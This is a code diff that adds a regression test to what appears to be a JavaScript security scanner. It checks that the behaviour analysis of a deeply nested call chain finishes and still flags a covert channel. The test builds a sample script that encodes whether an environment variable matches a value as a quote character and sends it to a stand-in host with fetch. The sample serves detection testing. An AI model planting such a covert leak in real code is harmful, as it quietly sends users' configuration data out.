@@ -1,5 +1,6 @@
 using System.Text;
 using Telltale.Artifacts;
+using Telltale.JavaScript;
 using Telltale.Reports;
 using Telltale.Scanning;
 using ZstdSharp;
@@ -92,5 +93,38 @@ public sealed class FuzzRegressionTests
         bytes[at + 1] = 0xA7;
 
         Assert.Throws<InvalidDataException>(() => JsonReportReader.Read(new MemoryStream(bytes)));
+    }
+
+    [Fact]
+    public void Behaviour_analysis_of_a_deeply_nested_call_chain_finishes_and_still_finds_the_channel()
+    {
+        // Found while sizing the behaviour target: every identifier's scope lookup walked all its ancestors, so a
+        // channel passed through f(f(f(…))) 40,000 deep took 21 s to trace and 120,000 deep minutes (quadratic).
+        // Now about a second; the 120 s backstop is the one timing this suite allows and is far from either.
+        const int depth = 120_000;
+        var script = new StringBuilder("const ap = () => process.env.API_URL === \"https://x.example\" ? \"\u2019\" : \"'\";\nfunction f(v) { return v; }\nconst x = ");
+        script.Insert(script.Length, "f(", depth).Append("ap()").Append(')', depth).Append(";\nfetch(\"https://api.example\", { body: x });\n");
+        BehaviourAnalysis? analysis = null;
+        Exception? failure = null;
+        var worker = new Thread(
+            () =>
+            {
+                try
+                {
+                    analysis = new BehaviourAnalyzer(ScanLimits.Default).Analyze(script.ToString(), "nested.js");
+                }
+                catch (Exception ex)
+                {
+                    failure = ex;
+                }
+            },
+            256 * 1024 * 1024) { IsBackground = true };
+
+        worker.Start();
+
+        Assert.True(worker.Join(TimeSpan.FromSeconds(120)), "the analysis of the nested call chain did not finish in 120 s");
+        Assert.Null(failure);
+        Assert.Null(analysis!.ParseError);
+        Assert.Equal(BehaviourAnalyzer.CovertChannelRuleId, Assert.Single(analysis.Findings).RuleId);
     }
 }
